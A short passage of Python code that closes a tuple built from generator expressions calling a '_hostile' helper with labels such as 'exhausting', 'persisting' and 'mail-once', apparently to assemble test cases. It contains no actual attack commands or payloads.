    *(_hostile("brief", *one, kind="exhausting", states="graded inconclusive")
      for one in _EXHAUSTING),
    *(_hostile("brief", name, BRIEF, tries, *sources, kind="persisting")
      for name, tries, *sources in _PERSISTING),
    *(_hostile("mail-once", *one, kind="persisting") for one in _MAIL_LEFT),
)  # fmt: skip
